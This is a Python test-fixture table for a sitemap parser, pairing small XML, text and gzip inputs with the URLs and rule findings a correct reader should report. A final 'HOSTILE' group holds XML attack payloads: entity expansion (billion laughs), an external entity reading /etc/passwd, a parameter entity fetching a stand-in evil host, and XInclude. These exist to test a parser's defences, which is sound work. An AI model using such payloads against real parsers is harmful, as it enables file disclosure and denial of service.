"""A table of small documents and what a right reader makes of them.

The numbers are those of the list of behaviours that the reader is built against; each
case is our own. `urls` are the addresses given, `children` those of an index, `rules`
findings that must be there.
"""

import gzip
from dataclasses import dataclass, field

from arpent.terms.documents import Kind

__all__ = ["BASE", "CASES", "Case"]

BASE = "https://kelp.test/maps/sitemap.xml"
NS = "http://www.sitemaps.org/schemas/sitemap/0.9"
A, B = "https://kelp.test/a", "https://kelp.test/b"


@dataclass(frozen=True)
class Case:
    id: str
    body: bytes
    urls: tuple[str, ...] = (A, B)
    kind: Kind = Kind.URLSET
    children: tuple[str, ...] = ()
    complete: bool = True
    rules: tuple[str, ...] = ()
    marks: dict[str, tuple[str, ...]] = field(default_factory=dict)
    content_type: str = ""
    clean: bool = False


def urlset(
    *parts: str, ns: str = f' xmlns="{NS}"', decl: str = "<?xml version='1.0'?>"
) -> bytes:
    return f"{decl}<urlset{ns}>{''.join(parts)}</urlset>".encode()


def index(*parts: str) -> bytes:
    return f'<sitemapindex xmlns="{NS}">{"".join(parts)}</sitemapindex>'.encode()


def url(loc: str, more: str = "") -> str:
    return f"<url><loc>{loc}</loc>{more}</url>"


UA, UB = url(A), url(B)
PLAIN = urlset(UA, UB)
TEXT = f"{A}\n{B}\n".encode()
C = "https://kelp.test/c"


def loc(
    written: str,
    given: str,
    *marks: str,
    id: str,  # noqa: A002 -- as the field is named
    rules: tuple[str, ...] = (),
) -> Case:
    return Case(
        id,
        urlset(url(written), UB),
        (given, B),
        rules=(*marks, *rules),
        marks={given: marks},
    )


BYTES = (
    Case("21-gzip-under-any-name", gzip.compress(PLAIN)),
    Case("23-plain", PLAIN, clean=True),
    Case("25-gzip-twice", gzip.compress(gzip.compress(PLAIN)), rules=("gzip-double",)),
    Case("26-gzip-members", gzip.compress(PLAIN[:90]) + gzip.compress(PLAIN[90:])),
    Case(
        "27-gzip-then-more",
        gzip.compress(PLAIN) + b"<!-- cached -->",
        rules=("gzip-trailing-bytes",),
    ),
    Case("31-utf8-bom", b"\xef\xbb\xbf" + PLAIN, clean=True),
    Case(
        "31-utf16",
        PLAIN.decode().encode("utf-16"),
        rules=("xml-not-utf8",),
    ),
    Case(
        "32-latin1-declared",
        b"<?xml version='1.0' encoding='ISO-8859-1'?><urlset xmlns='%b'><url><loc>"
        b"https://kelp.test/caf\xe9</loc></url></urlset>" % NS.encode(),
        ("https://kelp.test/caf\u00e9",),
        rules=("xml-not-utf8", "loc-not-encoded"),
    ),
    Case(
        "33-declared-utf16-written-utf8",
        urlset(UA, UB, decl="<?xml version='1.0' encoding='UTF-16'?>"),
        rules=("xml-encoding-lie",),
    ),
    Case(
        "34-bad-utf8-is-marked-and-kept",
        PLAIN.replace(b"kelp.test/a<", b"kelp.test/a\xff<"),
        (A + "\ufffd", B),
        rules=("xml-bad-bytes", "loc-bad-bytes"),
        marks={A + "\ufffd": ("loc-bad-bytes",)},
    ),
    Case(
        "35-header-charset-when-nothing-is-declared",
        b"<urlset xmlns='%b'><url><loc>https://kelp.test/caf\xe9</loc></url></urlset>"
        % NS.encode(),
        ("https://kelp.test/caf\u00e9",),
        content_type="application/xml; charset=iso-8859-1",
    ),
    Case(
        "35-declaration-before-header",
        b"<?xml version='1.0' encoding='ISO-8859-5'?><urlset xmlns='%b'><url><loc>"
        b"https://kelp.test/\xd0</loc></url></urlset>" % NS.encode(),
        ("https://kelp.test/\u0430",),
        content_type="application/xml; charset=iso-8859-1",
    ),
)

RECOGNISING = (
    Case("36-xml-as-text-html", PLAIN, content_type="text/html"),
    Case("37-blank-before", b"\n \n" + PLAIN, rules=("xml-leading-whitespace",)),
    Case(
        "37-bom-then-blank",
        b"\xef\xbb\xbf\r\n\t" + PLAIN,
        rules=("xml-leading-whitespace",),
    ),
    Case("38-text-before", b"oops\n" + PLAIN, rules=("xml-leading-whitespace",)),
    Case(
        "38-html-warning-before",
        b"<br />\n<b>Warning</b>: f() in <b>x.php</b> on line <b>3</b><br />\n" + PLAIN,
        rules=("xml-leading-whitespace",),
    ),
    Case("39-no-namespace", urlset(UA, UB, ns=""), rules=("ns-missing",)),
    Case(
        "39-google-084",
        urlset(UA, UB, ns=' xmlns="http://www.google.com/schemas/sitemap/0.84"'),
        rules=("ns-wrong",),
    ),
    Case(
        "39-https-namespace",
        urlset(UA, UB, ns=' xmlns="https://www.sitemaps.org/schemas/sitemap/0.9"'),
        rules=("ns-wrong",),
    ),
    Case("39-any-namespace", urlset(UA, UB, ns=' xmlns="urn:x"'), rules=("ns-wrong",)),
    Case(
        "40-prefixed",
        f'<s:urlset xmlns:s="{NS}"><s:url><s:loc>{A}</s:loc></s:url>'
        f"<s:url><s:loc>{B}</s:loc></s:url></s:urlset>".encode(),
        clean=True,
    ),
    Case(
        "41-child-without-namespace", urlset(f'<url xmlns=""><loc>{A}</loc></url>', UB)
    ),
    Case(
        "42-undeclared-prefix-of-an-extension",
        urlset(
            url(A, "<image:image><image:loc>http://x/i</image:loc></image:image>"), UB
        ),
        rules=("ns-undeclared-prefix",),
    ),
    Case(
        "42-undeclared-prefix-of-all",
        f"<s:urlset><s:url><s:loc>{A}</s:loc></s:url>"
        f"<s:url><s:loc>{B}</s:loc></s:url></s:urlset>".encode(),
        rules=("ns-undeclared-prefix", "ns-missing"),
    ),
    Case(
        "43-upper-case",
        f'<URLSET xmlns="{NS}"><URL><LOC>{A}</LOC></URL><Url><Loc>{B}</Loc></Url>'
        "</URLSET>".encode(),
        rules=("xml-tag-case",),
    ),
    Case(
        "44-rss-that-declares-the-sitemap-namespace",
        f'<rss version="2.0" xmlns:s="{NS}"><channel><item><link>{A}</link></item>'
        f"<item><link>{B}</link></item></channel></rss>".encode(),
        kind=Kind.RSS,
    ),
    Case(
        "45-html",
        b"<!DOCTYPE html><html><body>404 " + A.encode() + b"</body></html>",
        (),
        Kind.HTML,
        complete=False,
        rules=("file-not-sitemap",),
    ),
    Case(
        "45-html-that-mentions-the-namespace",
        f"<html><head><title>How</title></head><body>{NS} &lt;urlset></html>".encode(),
        (),
        Kind.HTML,
        complete=False,
    ),
    Case(
        "45-xhtml-behind-a-declaration",
        b"<?xml version='1.0'?><!-- x --><html xmlns='http://www.w3.org/1999/xhtml'/>",
        (),
        Kind.HTML,
        complete=False,
    ),
    Case(
        "45-html-without-html",
        b"<div>Not found</div>",
        (),
        Kind.HTML,
        complete=False,
    ),
    Case(
        "46-error-of-a-bucket",
        b"<?xml version='1.0'?><Error><Code>AccessDenied</Code><Message>Access Denied"
        b"</Message></Error>",
        (),
        Kind.ERROR,
        complete=False,
        rules=("root-not-sitemap",),
    ),
    Case("47-zero-bytes", b"", (), Kind.EMPTY, rules=("file-zero-bytes",)),
    Case("47-empty-urlset", urlset(), (), rules=("file-empty",)),
    Case("47-empty-selfclosed", b"<urlset/>", (), rules=("file-empty", "ns-missing")),
    Case(
        "47-empty-index",
        b'<sitemapindex xmlns="%b"></sitemapindex>' % NS.encode(),
        (),
        Kind.INDEX,
        rules=("index-empty",),
    ),
    Case("48-two-roots", urlset(UA) + urlset(UB, decl=""), rules=("xml-two-roots",)),
    Case(
        "48-urlset-then-index",
        urlset(UA, UB) + index(f"<sitemap><loc>{C}</loc></sitemap>"),
        children=(C,),
        rules=("xml-two-roots", "xml-mixed-roots"),
    ),
    Case("long-comment-before-root", b"<!--" + b"<url>" * 20_000 + b"-->" + PLAIN),
    Case(
        "no-root-at-all",
        (UA + UB).encode(),
        rules=("xml-malformed",),
    ),
    Case(
        "unknown-root",
        b"<kml><Placemark/></kml>",
        (),
        Kind.UNKNOWN,
        complete=False,
        rules=("file-not-sitemap",),
    ),
    Case(
        "broken-beyond-reading",
        b"<urlset><url does not close</urlset>\n\n</url>\n",
        (),
        Kind.UNKNOWN,
        complete=False,
    ),
)

ENTRIES = (
    loc(f"\n  {A}\n ", A, "loc-whitespace", id="49-blanks-around"),
    loc(f"\u00a0{A}\u00a0", A, "loc-whitespace", id="49-nbsp-around"),
    loc(f"<![CDATA[{A}?x=1&y=2]]>", f"{A}?x=1&y=2", id="50-cdata"),
    loc(f"{A}<![CDATA[?x=1&y=2]]>", f"{A}?x=1&y=2", id="50-cdata-split"),
    loc(f"{A}<!-- c -->b", f"{A}b", id="50-comment-inside"),
    loc(f"{A}?x=1&amp;y=2", f"{A}?x=1&y=2", id="51-reference"),
    loc(f"{A}?x=1&#38;y=2", f"{A}?x=1&y=2", id="51-number"),
    loc(f"{A}?x=1&#x26;y=2", f"{A}?x=1&y=2", id="51-hexadecimal"),
    loc(f"{A}?&amp;amp;y", f"{A}?&amp;y", "loc-double-escaped", id="52-escaped-twice"),
    loc(f"{A}?x=1&y=2", f"{A}?x=1&y=2", "xml-bare-ampersand", id="53-bare-ampersand"),
    loc(f"{A}?a&copy=1", f"{A}?a&copy=1", "xml-bare-ampersand", id="53-no-semicolon"),
    loc(
        f"{A}&eacute;",
        f"{A}\u00e9",
        "xml-html-entity",
        id="54-html-entity",
        rules=("loc-not-encoded",),
    ),
    loc(f"{A}&nope;", f"{A}&nope;", "xml-bare-ampersand", id="54-unknown-entity"),
    loc(f"{A}\x01b", f"{A}b", "loc-control-char", id="55-control-character"),
    loc(f"{A}&#1;", A, "loc-control-char", id="55-control-reference"),
    loc(f"{A}\nb", f"{A}b", "loc-control-char", id="55-line-end-inside"),
    Case("56-empty-loc", urlset(UA, url(""), UB), rules=("loc-empty",)),
    Case(
        "56-selfclosed-loc", urlset(UA, "<url><loc/></url>", UB), rules=("loc-empty",)
    ),
    Case(
        "57-url-without-loc",
        urlset(UA, "<url><lastmod>2024-01-01</lastmod></url>", UB),
        rules=("loc-missing",),
    ),
    Case(
        "58-stray-element",
        urlset(UA, "<generator>x</generator>", UB),
        rules=("tag-unknown",),
    ),
    Case(
        "58-unknown-child", urlset(url(A, "<foo>x</foo>"), UB), rules=("tag-unknown",)
    ),
    Case("58-stray-text", urlset(UA, "text", UB)),
    Case(
        "59-several-locs",
        urlset(f"<url><loc>{A}</loc><loc>{B}</loc></url>"),
        rules=("loc-several",),
        marks={A: ("loc-several",), B: ("loc-several",)},
    ),
    Case(
        "60-image-loc-is-no-page",
        urlset(
            f"<url><i:image><i:loc>{C}</i:loc></i:image><loc>{A}</loc></url>",
            url(B, f"<i:loc>{C}</i:loc>"),
            ns=f' xmlns="{NS}" xmlns:i="http://www.google.com/schemas/sitemap-image/1.1"',
        ),
    ),
    Case(
        "60-video-loc-is-no-page",
        urlset(
            url(A, f"<v:video><v:player_loc>{C}</v:player_loc></v:video>"),
            UB,
            ns=f' xmlns="{NS}" xmlns:v="http://www.google.com/schemas/sitemap-video/1.1"',
        ),
    ),
    Case(
        "60-loc-of-a-foreign-element",
        urlset(url(A, f'<meta xmlns="urn:m"><loc>{C}</loc></meta>'), UB),
    ),
    loc("/a", A, "loc-relative", id="61-relative"),
    loc("c", "https://kelp.test/maps/c", "loc-relative", id="61-relative-to-folder"),
    loc("../a", A, "loc-relative", id="61-relative-upwards"),
    loc("//kelp.test/a", A, "loc-relative", id="61-without-scheme"),
    Case("62-ftp", urlset(UA, url("ftp://kelp.test/x"), UB), rules=("loc-scheme",)),
    Case(
        "62-script", urlset(UA, url("javascript:alert(1)"), UB), rules=("loc-scheme",)
    ),
    Case("62-mail", urlset(UA, url("mailto:a@kelp.test"), UB), rules=("loc-scheme",)),
    Case("62-no-host", urlset(UA, url("https:///x"), UB), rules=("loc-invalid",)),
    loc(f"{A} b", f"{A} b", "loc-not-encoded", id="63-blank-inside"),
    loc(f"{A}%2Fb%C3%A9", f"{A}%2Fb%C3%A9", id="64-percent-kept"),
    loc(f"{A}%zz", f"{A}%zz", "loc-bad-percent", id="64-bad-percent-kept"),
    loc(f"{A}?utm_source=x", f"{A}?utm_source=x", id="64-query-kept"),
    loc(f"{A}/", f"{A}/", id="64-slash-kept"),
    loc(
        "HTTPS://Kelp.test/a#f", "HTTPS://Kelp.test/a#f", id="64-case-and-fragment-kept"
    ),
    loc(
        "https://u:p@kelp.test/",
        "https://u:p@kelp.test/",
        "loc-userinfo",
        id="userinfo",
    ),
    loc("https://kelp.test/@me", "https://kelp.test/@me", id="at-sign-in-path"),
    Case("65-listed-twice", urlset(UA, UB, UA), (A, B, A)),
    loc(A + "x" * 3000, A + "x" * 3000, "loc-too-long", id="66-long"),
    Case(
        "66-over-limit",
        urlset(UA, url(A + "x" * 70_000), UB),
        rules=("loc-over-limit",),
        complete=False,
    ),
    Case(
        "67-bad-lastmod",
        urlset(
            url(A, "<lastmod>null</lastmod>"), url(B, "<lastmod>2024-02-30</lastmod>")
        ),
        rules=("lastmod-format", "lastmod-impossible"),
    ),
    Case(
        "69-several-lastmods",
        urlset(
            url(A, "<lastmod>2024-01-01</lastmod><lastmod>2025-01-01</lastmod>"), UB
        ),
        rules=("lastmod-several", "tag-repeated"),
        marks={A: ("lastmod-several",)},
    ),
    Case("attribute-on-loc", urlset(f'<url><loc a="b>">{A}</loc></url>', UB)),
    Case(
        "unclosed-url",
        urlset(f"<url><loc>{A}</loc>", UB),
        rules=("xml-malformed",),
    ),
    Case(
        "unclosed-loc",
        urlset(f"<url><loc>{A}</url>", UB),
        rules=("xml-malformed",),
    ),
    Case(
        "loc-closed-by-another",
        urlset(f"<url><loc>{A}<lastmod>2024</lastmod></url>", UB),
        rules=("xml-malformed",),
    ),
    Case("end-without-start", urlset(UA, "</url></x>", UB), rules=("xml-malformed",)),
    Case("raw-less-than", urlset(url(A, "<changefreq>always<</changefreq>"), UB)),
    Case(
        "commented-out",
        urlset(UA, f"<!-- <url><loc>{C}</loc></url> -->", UB),
    ),
    Case("instruction-inside", urlset(UA, f"<?x <url><loc>{C}</loc></url> ?>", UB)),
    Case(
        "grouped",
        urlset(f"<group>{UA}</group>", UB),
        rules=("tag-unknown",),
    ),
    Case("text-after-root", PLAIN + b"bye", rules=("xml-malformed",)),
    Case("comment-after-root", PLAIN + b"\n<!-- cached -->\n", clean=True),
)

CUT = (
    Case(
        "28-gzip-cut",
        gzip.compress(PLAIN, mtime=0)[:-9],
        complete=False,
        rules=("gzip-cut",),
    ),
    Case("cut-in-loc", PLAIN[:-26], (A,), complete=False, rules=("xml-cut",)),
    Case(
        "cut-between-loc-and-url",
        PLAIN[: PLAIN.rindex(b"</url>")],
        (A,),
        complete=False,
        rules=("xml-cut",),
    ),
    Case(
        "cut-after-url",
        PLAIN[: -len(b"</urlset>")],
        complete=False,
        rules=("xml-cut",),
    ),
    Case(
        "cut-in-comment",
        urlset(UA, UB, "<!-- ").removesuffix(b"</urlset>"),
        complete=False,
        rules=("xml-cut",),
    ),
    Case(
        "cut-in-cdata",
        urlset(UA, UB, "<url><loc><![CDATA[http://x").removesuffix(b"</urlset>"),
        complete=False,
        rules=("xml-cut",),
    ),
    Case(
        "cut-before-anything",
        b'<?xml version="1.0"?><urlset xmlns="x"><url><loc>',
        (),
        Kind.UNKNOWN,
        complete=False,
    ),
)

LISTS = (
    Case("77-text", TEXT, kind=Kind.TEXT, clean=True),
    Case(
        "77-bom-crlf-blank-lines",
        b"\xef\xbb\xbf" + A.encode() + b"\r\n\r\n  " + B.encode() + b"  \r\n",
        kind=Kind.TEXT,
    ),
    Case("77-carriage-returns", TEXT.replace(b"\n", b"\r"), kind=Kind.TEXT),
    Case("77-no-line-end", TEXT[:-1], kind=Kind.TEXT),
    Case(
        "77-junk-lines",
        b"# mine\n" + TEXT + b"not one\n",
        kind=Kind.TEXT,
        rules=("txt-only-urls",),
    ),
    Case(
        "77-columns",
        f"{A}\t2024-01-01\n{B}\n".encode(),
        kind=Kind.TEXT,
        rules=("txt-only-urls",),
    ),
    Case("77-gzip", gzip.compress(TEXT), kind=Kind.TEXT),
    Case("77-utf16", TEXT.decode().encode("utf-16"), kind=Kind.TEXT),
    Case(
        "77-ampersands-are-not-references",
        b"https://kelp.test/?a&amp;b\n",
        ("https://kelp.test/?a&amp;b",),
        Kind.TEXT,
    ),
    Case(
        "77-ftp-lines",
        TEXT + b"ftp://kelp.test/\n",
        kind=Kind.TEXT,
        rules=("loc-scheme",),
    ),
    Case(
        "text-without-address",
        b"Hello there\n",
        (),
        Kind.UNKNOWN,
        complete=False,
        rules=("file-not-sitemap",),
    ),
    Case("json-of-no-feed", b'{"error": "no"}', (), Kind.UNKNOWN, complete=False),
    Case("nested-json", b"[" * 100_000, (), Kind.UNKNOWN, complete=False),
)

INDEXES = (
    Case(
        "82-index",
        index(
            f"<sitemap><loc>{A}?n=1</loc></sitemap><sitemap><loc>{B}</loc></sitemap>"
        ),
        (),
        Kind.INDEX,
        (f"{A}?n=1", B),
        clean=True,
    ),
    Case(
        "82-index-cdata-and-blanks",
        index(f"<sitemap><loc>\n<![CDATA[ {A} ]]>\n</loc></sitemap>"),
        (),
        Kind.INDEX,
        (A,),
    ),
    Case(
        "61-index-relative",
        index("<sitemap><loc>/a</loc></sitemap>"),
        (),
        Kind.INDEX,
        (A,),
        rules=("index-child-relative",),
    ),
    Case(
        "83-index-two-locs",
        index(f"<sitemap><loc>{A}</loc><loc>{B}</loc></sitemap>"),
        (),
        Kind.INDEX,
        (A, B),
        rules=("loc-several",),
    ),
    Case(
        "83-index-bare-text",
        index(f"<sitemap>{A}</sitemap><sitemap> {B} </sitemap>"),
        (),
        Kind.INDEX,
        (A, B),
        rules=("loc-bare-text",),
    ),
    Case(
        "83-index-unclosed",
        index(f"<sitemap><loc>{A}</loc><sitemap><loc>{B}</loc></sitemap>"),
        (),
        Kind.INDEX,
        (A, B),
        rules=("xml-malformed",),
    ),
    Case(
        "84-url-in-index",
        index(f"<sitemap><loc>{C}</loc></sitemap>", UA, UB),
        kind=Kind.INDEX,
        children=(C,),
        rules=("xml-mixed-roots",),
        marks={A: ("xml-mixed-roots",)},
    ),
    Case(
        "84-sitemap-in-urlset",
        urlset(UA, f"<sitemap><loc>{C}</loc></sitemap>", UB),
        children=(C,),
        rules=("xml-mixed-roots",),
    ),
    Case(
        "85-page-that-ends-in-xml",
        urlset(url("https://kelp.test/docs/feed.xml")),
        ("https://kelp.test/docs/feed.xml",),
    ),
    Case(
        "the-same-child-twice",
        index(f"<sitemap><loc>{A}</loc></sitemap>" * 2),
        (),
        Kind.INDEX,
        (A, A),
        rules=("index-child-dup",),
    ),
)

HOSTILE = (
    Case(
        "93-doctype",
        PLAIN.replace(b"<urlset", b"<!DOCTYPE urlset SYSTEM 'x.dtd'><urlset", 1),
        rules=("xml-doctype",),
    ),
    Case(
        "94-billion-laughs",
        b'<!DOCTYPE l [<!ENTITY a "xx"><!ENTITY b "&a;&a;&a;&a;">]>'
        + urlset(UA, url("https://kelp.test/&b;"), UB, decl=""),
        (A, "https://kelp.test/&b;", B),
        rules=("xml-doctype", "xml-entity-declared"),
    ),
    Case(
        "94-external-entity",
        b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + urlset(UA, url("&x;"), UB, decl=""),
        (A, "https://kelp.test/maps/&x;", B),
        rules=("xml-entity-declared",),
    ),
    Case(
        "94-parameter-entity",
        b'<!DOCTYPE l [<!ENTITY % p SYSTEM "http://evil.test/"> %p;]>'
        + urlset(UA, UB, decl=""),
        rules=("xml-entity-declared",),
    ),
    Case(
        "94-redeclared-html-entity",
        b'<!DOCTYPE l [<!ENTITY copy "http://evil.test/">]>'
        + urlset(url("https://kelp.test/&copy;"), decl=""),
        ("https://kelp.test/&copy;",),
    ),
    Case(
        "94-xinclude",
        urlset(
            UA,
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///x"/>',
            UB,
        ),
    ),
    Case(
        "deep-nesting",
        urlset(UA, "<x>" * 1_000 + "</x>" * 1_000, UB),
        complete=False,
        rules=("xml-too-deep",),
    ),
)

CASES = (*BYTES, *RECOGNISING, *ENTRIES, *CUT, *LISTS, *INDEXES, *HOSTILE)
